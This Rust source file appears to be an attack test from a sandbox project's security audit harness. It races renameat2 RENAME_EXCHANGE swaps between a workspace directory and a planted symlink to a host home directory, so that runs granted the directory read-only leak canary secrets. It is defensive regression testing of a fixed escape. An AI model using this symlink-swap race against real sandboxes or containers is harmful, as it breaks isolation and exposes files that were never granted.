//! Swap a directory another run is about to be given for a symlink to a host directory
//! that was never granted (the hold-the-line audit's escape, finding 1): with a read-write
//! workspace `W`, exchange `W/sub` (a directory) and `W/alt` (a symlink to the world's home,
//! which holds canary secrets) with `renameat2(RENAME_EXCHANGE)` as fast as possible, while
//! the harness starts runs granted `W/sub` read-only that print what is in it. Before the
//! fix, a run judged `W/sub` by name and mounted the name: the home's canaries came out.
//! It swaps an even number of times, so `W/sub` is a directory again at the end: the
//! verdict is about the race, not about a symlink left behind (which `stockade run` refuses
//! to follow unless asked, and a library caller's path resolves as its caller names it).
//! Catalogue row: 8 (`research/process-tier.md` section 4), in two runs.
use std::ffi::CString;
use std::time::{Duration, Instant};

use stockade_attacks::*;

fn main() {
    let home = arg("home");
    report("plant_symlink", std::os::unix::fs::symlink(&home, "/workspace/alt"));
    let (Ok(sub), Ok(alt)) = (CString::new("/workspace/sub"), CString::new("/workspace/alt")) else { return };
    let exchange = || {
        syscall(
            libc::SYS_renameat2,
            [
                libc::AT_FDCWD as u64,
                sub.as_ptr() as u64,
                libc::AT_FDCWD as u64,
                alt.as_ptr() as u64,
                u64::from(libc::RENAME_EXCHANGE),
                0,
            ],
        )
    };
    // Within the harness's 1 s of CPU.
    let start = Instant::now();
    let (mut swaps, mut last) = (0u64, Ok(0));
    while start.elapsed() < Duration::from_millis(700) {
        last = exchange().and_then(|_| exchange());
        if last.is_err() {
            break;
        }
        swaps += 2;
    }
    report("exchange_sub_and_symlink", last);
    println!("SWAPS {swaps}");
}
